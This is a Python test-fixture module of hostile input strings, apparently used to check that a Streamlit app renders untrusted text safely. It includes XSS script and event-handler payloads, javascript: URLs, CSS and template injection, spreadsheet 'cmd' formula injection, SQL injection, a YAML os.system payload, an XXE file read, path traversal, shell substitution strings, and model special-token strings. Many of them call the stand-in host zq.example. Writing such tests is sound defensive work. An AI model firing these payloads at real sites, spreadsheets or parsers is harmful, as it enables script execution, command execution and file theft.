"""Texts of a visitor who means harm: each would run, load, draw or break something where a text is not only a text.

What one of them would make is to be recognised: an element has the attribute ``zq`` or ``zq`` in its class, address or
style, code calls ``hit()`` or sets ``window.hit``, and what is set in bold, in a link or in a table reads "zq two". No
text and no page of ours has any of these.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

HOST = "http://zq.example"  # no machine has that name, and a request for it is seen

KINDS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "scripts": (
            "<script zq>window.hit=1</script>",
            "<SCRIPT ZQ>window.hit=1</SCRIPT >",
            "<script zq src=http://zq.example/a.js></script>",
            "<script zq src=//zq.example/a.js></script>",
            "<script zq type=module>window.hit=1</script>",
            "<script zq\t>window.hit=1</script\t>",
            "<scr<script zq>ipt>window.hit=1</scr</script>ipt>",
            "<script zq/x>window.hit=1</script>",
            "<<script zq>window.hit=1//<</script>",
            "</script><script zq>window.hit=1</script>",
            "<!--<script zq>window.hit=1</script>-->",
            "--><script zq>window.hit=1</script><!--",
            "]]><script zq>window.hit=1</script>",
            "<noscript><p title='</noscript><script zq>window.hit=1</script>'>",
            "<svg zq><script>window.hit=1</script></svg>",
            "<math zq><mtext><script>window.hit=1</script></mtext></math>",
            "<template zq><script>window.hit=1</script></template>",
            "<script zq>import('http://zq.example/a.js')</script>",
        ),
        "event handlers": (
            "<img zq src=x onerror=window.hit=1>",
            "<img zq src=zq.png onerror='window.hit=1'>",
            "<IMG ZQ SRC=x OnErRoR=window.hit=1>",
            "<img zq src=x onerror\n=window.hit=1>",
            "<img/zq/src=x/onerror=window.hit=1>",
            "<svg zq onload=window.hit=1>",
            "<svg zq/onload=window.hit=1//",
            "<body zq onload=window.hit=1>",
            "<body zq onpageshow=window.hit=1>",
            "<input zq autofocus onfocus=window.hit=1>",
            "<select zq autofocus onfocus=window.hit=1>",
            "<textarea zq autofocus onfocus=window.hit=1>",
            "<details zq open ontoggle=window.hit=1>",
            "<video zq><source onerror=window.hit=1></video>",
            "<audio zq src=x onerror=window.hit=1>",
            "<marquee zq onstart=window.hit=1>",
            "<div zq onmouseover=window.hit=1>zq two</div>",
            "<p zq onanimationstart=window.hit=1 style=animation:zq>",
            "<svg zq><animate onbegin=window.hit=1 attributeName=x dur=1s>",
            "<button zq onclick=window.hit=1>zq two</button>",
            "<button zq popovertarget=zq onbeforetoggle=window.hit=1>",
        ),
        "elements": (
            "<iframe zq src=javascript:parent.hit=1></iframe>",
            "<iframe zq srcdoc='<script>parent.hit=1</script>'></iframe>",
            "<iframe zq src=http://zq.example/></iframe>",
            "<object zq data=http://zq.example/></object>",
            "<embed zq src=http://zq.example/>",
            "<base zq href=http://zq.example/>",
            "<link zq rel=stylesheet href=http://zq.example/a.css>",
            "<link zq rel=prefetch href=http://zq.example/a>",
            "<meta zq http-equiv=refresh content='0;url=http://zq.example/'>",
            "<form zq action=http://zq.example/><input name=zq></form>",
            "<b zq>zq two</b>",
            "<h1 zq>zq two</h1>",
            "<zq-element></zq-element>",
            "<table zq><tr><td>zq two</td></tr></table>",
            "<dialog zq open>zq two</dialog>",
            "<textarea zq></textarea><plaintext>",
            "</div></div></div><b zq>zq two</b>",
            "</textarea><b zq>zq two</b>",
            "</title><b zq>zq two</b>",
            "</style><b zq>zq two</b>",
            "</svg></math><b zq>zq two</b>",
            "</pre></code><b zq>zq two</b>",
            "<video zq poster=http://zq.example/a.png>",
            "<image zq href=http://zq.example/a.png>",
        ),
        "attributes": (
            '" onmouseover="window.hit=1" zq="',
            "' onmouseover='window.hit=1' zq='",
            "` onmouseover=window.hit=1 zq=`",
            '" autofocus onfocus=window.hit=1 zq="',
            "x zq onclick=window.hit=1",
            '"><img zq src=x onerror=window.hit=1>',
            "'><img zq src=x onerror=window.hit=1>",
            '\\"><img zq src=x onerror=window.hit=1>',
            '" style="background:url(http://zq.example/a)" zq="',
            '" srcdoc="<b zq>zq two</b>" zq="',
            "&quot; onmouseover=&quot;window.hit=1&quot; zq=&quot;",
            '\u00a0"\u00a0zq\u00a0onclick=window.hit=1',
        ),
        "addresses": (
            "javascript:window.hit=1",
            "JaVaScRiPt:window.hit=1//zq",
            "java\tscript:window.hit=1//zq",
            "javascript&colon;window.hit=1//zq",
            "<a zq href=javascript:window.hit=1>zq two</a>",
            "<a zq href=' javascript:window.hit=1'>zq two</a>",
            "[zq two](javascript:window.hit=1)",
            "[zq two](<javascript:window.hit=1>)",
            "[zq two](data:text/html,<script>window.hit=1</script>)",
            "[zq two](vbscript:window.hit=1)",
            "[zq two](http://zq.example/)",
            "[zq two](//zq.example/)",
            "[zq two]: http://zq.example/",
            "[zq two][zq]\n\n[zq]: http://zq.example/",
            "<http://zq.example/>",
            "http://zq.example/a",
            "www.zq.example/a",
            "zq@zq.example",
            "<zq@zq.example>",
            "mailto:zq@zq.example",
            "![zq two](http://zq.example/a.png)",
            "![zq two](zq.png)",
            "[![zq two](http://zq.example/a.png)](http://zq.example/)",
            "blob:http://zq.example/a",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
        ),
        "style sheets": (
            "<style zq>body{display:none}</style>",
            "<style zq>@import 'http://zq.example/a.css'</style>",
            "<p zq style=background:url(http://zq.example/a)>zq two</p>",
            "}body{background:url(http://zq.example/a)}.zq{",
            '";}body{display:none}.zq{content:"',
            "*/body{display:none}/*zq",
            "@import url(http://zq.example/a.css);",
            "\\a }body{display:none}/*zq*/",
            "--zq:1;background:url(http://zq.example/a)",
            "expression(window.hit=1)",
        ),
        "templates": (
            "{{zq}}",
            "{{7*7}}zq",
            "${window.hit=1}",
            "#{window.hit=1}",
            "<%= zq %>",
            "{% raw %}zq",
            "{{constructor.constructor('window.hit=1')()}}",
            "`${window.hit=1}`",
            "%{customdata}%{zq}",
            "<extra>zq two</extra>",
            "{0}{1}{zq}",
            "{zq.__class__}",
            "{zq!r:>1000000}",
            "%s%s%s%n",
            "%999999999d",
            "$(window.hit=1)",
            "PYTHON_PARAMS",
            "__proto__",
        ),
        "Markdown": (
            "**zq two**",
            "__zq two__",
            "*zq two*",
            "~~zq two~~",
            "`zq two`",
            "``` zq two",
            "# zq two",
            "zq two\n===",
            "- zq two",
            "1. zq two",
            "> zq two",
            "| zq two |\n| --- |\n| zq two |",
            "- [x] zq two",
            "---",
            "zq[^1]\n\n[^1]: zq two",
            "\\**zq two**",
            "<!-- zq -->",
            "a\\",
        ),
        "Streamlit's own": (
            ":red[zq two]",
            ":rainbow[zq two]",
            ":blue-background[zq two]",
            ":small[zq two]",
            ":material/bug_report:",
            ":skull_and_crossbones:",
            ":streamlit:",
            ":violet-badge[zq two]",
            ":color[zq two]{foreground=red}",
            ":shortcut[zq two]",
            ":gray[:material/bug_report: zq two]",
            "zq -> zq <- zq -- zq",
        ),
        "formulas": (
            "$zq$",
            "$$zq$$",
            "\\(zq\\) \\[zq\\]",
            "$\\href{javascript:window.hit=1}{zq}$",
            "$\\includegraphics{http://zq.example/a.png}$",
            "$\\htmlClass{zq}{x}$",
            "$\\unicode{x}$ $\\def\\zq{\\zq\\zq}\\zq$",
            "$$\\begin{zq}$$",
        ),
        "what is not seen": (
            "zq \u202edrow\u202c",
            "\u2066zq\u2069 \u2067zq\u2069 \u2068zq\u2069",
            "\u200fzq\u200e\u061c",
            "z\u200bq z\u200cq z\u200dq z\u2060q \ufeffzq",
            "zq\u00ad\u034f\u115f\u17b4\u180e\u3164\uffa0",
            "zq\x00zq",
            "\x01\x02\x03\x04\x05\x06\x07\x08zq",
            "zq\x1b[31mzq\x1b]0;zq\x07",
            "zq\x0b\x0c\x1c\x1d\x1e\x1f\x7f",
            "zq\x80\x85\x9b\x9f",
            "zq\u2028zq\u2029zq",
            "\ud83dzq",
            "zq\udc00",
            "\udfff\ud800zq",
            "zq\ufffe\uffff\U0001fffe\U0010ffff",
            "zq\ufdd0\ufdef\ue000\U000f0000",
            "zq\U000e0041\U000e0042\U000e007f",
            "z\ufe0fq\ufe0e\U000e0100",
            "z" + "\u0301" * 60 + "q",
        ),
        "look-alikes": (
            "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
            "\u2039script\u203awindow.hit=1",
            "\uff3bCLS\uff3d [\u0421LS] [CL\u0405]",
            "\u0430\u0440\u0440l\u0435 zq",
            "\uff0a\uff0azq two\uff0a\uff0a",
            "\ufb01zq\ufb03 \u2460 \u212b \u1e9e \u0130\u0131",
            "\uff1d1+1",
            "\U0001d467\U0001d45e \U0001f1ff\U0001f1f6",
        ),
        "tokens' names": (
            "[CLS]",
            "[SEP] zq [SEP]",
            "[MASK][MASK]",
            "[PAD] zq [PAD] [UNK]",
            "<s> zq </s></s>",
            "<pad><unk><mask>",
            "<|endoftext|> <|im_start|>",
            "##zq ##ing",
            "\u2581zq \u0120zq",
            "[unused1] [CLS] [CLS]",
        ),
        "spreadsheets": (
            "=1+1",
            '=HYPERLINK("http://zq.example/","zq two")',
            "+zq|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "\t=1+1",
            "\u2212\u2060=1+1",
            '";=1+1;"',
            'zq,"zq",\n=1+1',
        ),
        "data": (
            '"}];window.hit=1//',
            '{"kind": "cls-explained", "zq": 1}',
            "\\u003cscript\\u003e",
            "\\x3cscript\\x3e",
            "'; DROP TABLE zq; --",
            "\\",
            "\\\\\\\"'",
            "null",
            "NaN",
            "1e999",
            "\n...\n---\nzq: !!python/object/apply:os.system [zq]",
            '<?xml version="1.0"?><!DOCTYPE zq [<!ENTITY zq SYSTEM "file:///etc/hostname">]><zq>&zq;</zq>',
        ),
        "entities": (
            "&lt;script zq&gt;window.hit=1&lt;/script&gt;",
            "&#60;img zq src=x onerror=window.hit=1&#62;",
            "&#x3c;b zq&#x3e;zq two",
            "&amp;lt;b zq&amp;gt;",
            "&nbsp;&zwj;&NewLine;&Tab;&lpar;",
            "&#0;&#x110000;&#xD800;",
        ),
        "paths": (
            "../../../../etc/hostname",
            "..\\..\\..\\windows\\win.ini",
            "/etc/hostname",
            "file:///etc/hostname",
            "folder:../../etc",
            "%2e%2e%2fetc%2fhostname",
            "~/.ssh/zq",
            "CON",
            "zq;id|id&id",
            "`id` $(id)",
        ),
        "sizes": (
            "zq" * 1500,
            "zq two " * 300,
            "[" * 300,
            "(((" * 100 + "zq",
            "*_" * 150,
            "<" * 300,
            "\U0001f469\u200d" * 80,
            "\u0e47" * 200,
        ),
    }
)
STRINGS: tuple[str, ...] = tuple(text for kind in KINDS.values() for text in kind)
SAMPLE = tuple(
    KINDS[kind][place]
    for kind, place in (
        ("scripts", 9),
        ("event handlers", 0),
        ("elements", 1),
        ("attributes", 5),
        ("addresses", 6),
        ("Markdown", 0),
        ("Streamlit's own", 4),
        ("formulas", 3),
    )
)
LONG = tuple(text for text in STRINGS if len(text) > 200)  # a page reads few of them at once
SHORT = tuple(text for text in STRINGS if text not in LONG)
MOST = 64  # texts in one visit; all pages read so many of these
WIDTH = 140  # characters of a line of several: as many tokens, at most


def visits(turn: int) -> tuple[tuple[str, ...], ...]:
    """What is typed on a page, one visit after the other: some of each kind alone, all in lines of several, the long.

    Args:
        turn: of the page; every fourth has the same ones alone, and another one of them in front.
    """
    often = -(-len(SHORT) // (MOST - 4))  # some are more than one line
    alone = SHORT[turn % often :: often]
    first = turn * 5 % len(alone)
    return (*alone[first:], *alone[:first]), together(), LONG


def together() -> tuple[str, ...]:
    """All short ones, several in a line: in a text of its own none is followed by another."""
    lines = [""]
    for text in SHORT:
        if len(lines[-1]) + len(text) > WIDTH or "\n" in text:
            lines.append("")
        lines[-1] = f"{lines[-1]} {text}".strip()
    return tuple(lines)
